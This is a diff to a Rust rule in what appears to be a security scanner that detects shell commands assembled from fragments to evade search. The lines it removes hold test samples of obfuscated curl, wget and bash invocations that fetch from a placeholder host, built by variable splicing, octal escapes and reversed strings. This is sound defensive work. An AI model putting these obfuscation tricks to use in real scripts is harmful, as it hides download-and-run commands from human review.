@@ -1,11 +1,12 @@
 //! The name of a program is put together out of pieces.
 
 use crate::finding::Via;
-use crate::rules::rule::{Category, Check, Rule, Severity, SkillHit, file, text};
+use crate::rules::rule::{Category, Check, Rule, Severity, SkillHit};
 use crate::text::decode::{MADE, is_hidden_name};
 use crate::text::unit::{ANYWHERE, Unit};
 use crate::text::view::Skill;
 use crate::tree::Content;
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "CODE_ASSEMBLED",
@@ -15,22 +16,8 @@ pub(super) const RULE: Rule = Rule {
     why: "A command is written in pieces so that nobody finds it by looking for it. Whoever wants it to be read writes it in one.",
     fix: "write the command itself",
     places: ANYWHERE,
-    anchors: &[],
+    anchors: words![],
     check: Check::Skill(hits),
-    hits: &[
-        text("```sh\nx=cu; y=rl\n$x$y -s http://a.b/x -o f\n```"),
-        text("```sh\nc''url http://a.b/x -o f\n```"),
-        text("```sh\n$(printf '\\167\\147\\145\\164') http://a.b/x\n```"),
-        text("Run `a=ba;b=sh;$a$b -c ls` first."),
-        file("x.sh", "p=(w g e t)\n${p[0]}${p[1]}${p[2]}${p[3]} http://a.b/x\n"),
-        file("x.sh", "`echo hsab | rev` x.sh\n"),
-    ],
-    misses: &[
-        text("```sh\nV=3.12\npython$V -m venv .venv\n```"),
-        text("```sh\nPREFIX=arm-none-eabi-\n${PREFIX}gcc -c x.c\n```"),
-        text("```sh\nCURL=curl\n$CURL -s https://a.b/x\n```"),
-        file("x.sh", "cmd=\"$1\"\n\"$dir$cmd\" --help\necho \"it''s\"\n"),
-    ],
 };
 
 fn hits(skill: &Skill<'_>) -> Vec<SkillHit> {
